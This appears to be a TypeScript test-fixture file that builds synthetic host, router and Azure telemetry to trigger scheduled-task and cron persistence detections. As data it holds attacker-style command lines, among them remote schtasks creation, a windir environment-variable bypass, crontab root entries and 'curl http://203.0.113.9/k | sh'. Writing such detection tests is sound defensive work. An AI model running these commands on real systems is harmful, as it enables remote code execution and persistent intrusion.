/** For each alert on hosts and on Azure beyond the seven, records that it tells. */
import { days, minutes } from '../../src/core/duration.ts';
import type { TelemetryEvent } from '../../src/core/event.ts';
import { automation, cloudOp, runbook, webhook } from './azure-events.ts';
import { base, content, created, file, process, value } from './events.ts';
import { macFile, macStarted } from './extended/host-run.ts';
import { changed, connected, loaded, runs } from './extended/windows-events.ts';
import { auditedFile, crontabLine, started } from './linux-events.ts';

const SYSTEM = 'C:\\Windows\\System32\\';
const HIVE = 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\';
const TASKS = 'Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml';
const SR = '\\Microsoft\\Windows\\SystemRestore\\SR';
const AGENT = '/Library/LaunchAgents/a.plist';
const CLIENT = { pid: 40, processGuid: 'guid-40' };

/** Each list alone makes at least one alert; `carried` stands wherever a record has room for it. */
export function tellingEvents(carried: string): readonly (readonly TelemetryEvent[])[] {
  return [...onWindows(carried), ...onUnix(carried), ...onAzure(carried)];
}

function onWindows(carried: string): TelemetryEvent[][] {
  const parents = { parentCommandLine: `cmd /c ${carried}`, parentImage: `${SYSTEM}cmd.exe` };
  const ran = (program: string, line: string, more: object = {}) =>
    process(`${program} ${line}`, { image: `${SYSTEM}${program}`, ...parents, ...more });
  const engine = { parentImage: `${SYSTEM}svchost.exe`, parentCommandLine: 'x -s Schedule' };
  const agent = { parentImage: 'C:\\SQL\\SQLAGENT.EXE' };
  return [
    [ran('cmd.exe', `/c schtasks /create /tn a /tr "${carried}"`, { pid: 10 })],
    [ran('schtasks.exe', `/create /tn a /sc once /st 23:00 /tr "${carried}"`)],
    [ran('schtasks.exe', `/create /s SRV01 /tn a /tr "shutdown /r ${carried}"`)],
    [ran('at.exe', `\\\\SRV01 13:20 ${carried}`), ran('at.exe', '\\\\SRV01 3 /delete')],
    [ran('schtasks.exe', `/run /s SRV01 /tn a /u u /p "${carried}"`)],
    Array.from({ length: 10 }, (_, n) =>
      ran('schtasks.exe', `/query /s SRV${n} /u u /p "${carried}"`),
    ),
    [ran('wscript.exe', 'x.vbs', CLIENT), created('\\A', { clientPid: 40, ...runs(carried) })],
    [created('\\A', runs('a')), changed('\\A', carried, { atMs: minutes(1) })],
    [created('\\A', { clientPid: 0, ...runs(carried) })],
    [
      loaded(`${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`, CLIENT),
      connected(135, CLIENT),
      connected(49_667, CLIENT),
    ],
    [ran('reg.exe', `add "${HIVE}Configuration" /v EnableAt /d 1 ${carried}`)],
    [value(`${HIVE}Configuration\\EnableAt`, { data: 'DWORD (0x00000001)' })],
    [value(`${HIVE}TaskCache\\Tree\\a\\SD`, { op: 'deleteValue', image: `C:\\x.exe` })],
    [created('\\H', { content: content({ hidden: true, ...runs(carried).content }) })],
    [ran('schtasks.exe', `/change /tn "${SR}" /disable /rp "${carried}"`)],
    [ran('schtasks.exe', `/create /xml C:\\Windows\\x.dat /tn a /rp "${carried}"`)],
    [ran('wscript.exe', `C:\\Users\\Public\\x.vbs ${carried}`, engine)],
    [file(`C:\\Windows\\SYSVOL\\corp\\Policies\\{1}\\${TASKS}`, { image: 'C:\\x.exe' })],
    [ran('reg.exe', `add HKCU\\Environment /v windir /d "cmd /K ${carried} & REM " /f`)],
    [value('HKU\\S-1-5-21\\Environment\\windir', { data: `cmd /K ${carried}` })],
    [ran('cmd.exe', `/K ${carried} & REM \\system32\\cleanmgr.exe /autoclean /d C:`)],
    [ran('sqlcmd.exe', `-Q "EXEC sp_add_jobstep @subsystem='CmdExec', @command='${carried}'"`)],
    [ran('cmd.exe', `/c C:\\Users\\Public\\x.bat ${carried}`, agent)],
  ];
}

function onUnix(carried: string): TelemetryEvent[][] {
  const by = { commandLine: `sh -c "${carried}"`, image: '/usr/bin/dash' };
  const child = { parentImage: '/usr/sbin/cron', parentCommandLine: `cron -f ${carried}` };
  const run = (program: string, line: string, more: object = {}) =>
    started(`/usr/bin/${program}`, `${program} ${line}`, { ...more });
  return [
    [auditedFile('/etc/cron.d/.job', by), auditedFile('/x', { atMs: minutes(2) })],
    [auditedFile('/etc/cron.d/a', by), auditedFile('/etc/cron.d/a', { op: 'delete', ...by })],
    [
      run('chattr', '+i /etc/cron.d/job'),
      run('sh', `-c "echo '* * * * * root ${carried}' >> /etc/crontab"`),
    ],
    [auditedFile('/etc/cron.deny', { op: 'delete', ...by })],
    [crontabLine('root', 'DELETE', 'root')],
    [run('crontab', '-l', { user: 'www-data', ...child })],
    [run('at', 'now + 1 minute -f /tmp/x', child), auditedFile('/etc/at.allow', by)],
    [run('sh', `-c "curl http://203.0.113.9/k | sh; ${carried}"`, child)],
    [auditedFile('/etc/systemd/system/a.timer', by)],
    [auditedFile('/etc/systemd/system/a.service', by)],
    [run('systemd-run', `--on-active=30 /bin/sh -c "${carried}"`)],
    [run('systemctl', `enable --now /tmp/a.timer ${carried}`)],
    [macFile('/Library/LaunchDaemons/a.plist', by)],
    [macStarted(`/bin/launchctl submit -l a -- /bin/sh -c ${carried}`)],
    [macStarted(`/usr/libexec/PlistBuddy -c "Add :StartInterval integer 9 ${carried}" ${AGENT}`)],
    [macFile('/private/var/at/tabs/root', by)],
    [macFile('/etc/periodic/daily/500.x', by)],
    [kron(`kron occurrence a at 1:00 ${carried}`)],
    [run('kubectl', `create cronjob a --image=b --schedule="* * * * *" -- sh -c "${carried}"`)],
  ];
}

/** What a router logs of a command. */
function kron(command: string): TelemetryEvent {
  const fields = { message: `User:admin  logged command:${command}` };
  return { kind: 'other', ...base('syslog/%parser-5-cfglog_loggedcmd', 0), fields };
}

function onAzure(carried: string): TelemetryEvent[][] {
  const uri = 'https://a.webhook.we.azure-automation.net/webhooks?token=';
  const fields = { properties: { requestbody: JSON.stringify({ uri: uri + carried, carried }) } };
  const group = 'microsoft.insights/actiongroups';
  const watched = automation('schedules/write', 'schedules/a', { atMs: -days(100), caller: 'ada' });
  return [
    [0, 1, 2].map((atMs) => runbook('write', { outcome: 'failure', fields, atMs })),
    [0, 1, 2].map((atMs) => webhook({ fields, atMs }, `hook${atMs}`)),
    [watched, webhook({ fields, subOutcome: 'Succeeded.OK' })],
    [cloudOp(`${group}/write`, `/subscriptions/1/providers/${group}/a`, { fields })],
    [runbook('draft/content/write', { fields }), runbook('publish/action', { fields, atMs: 1 })],
  ];
}
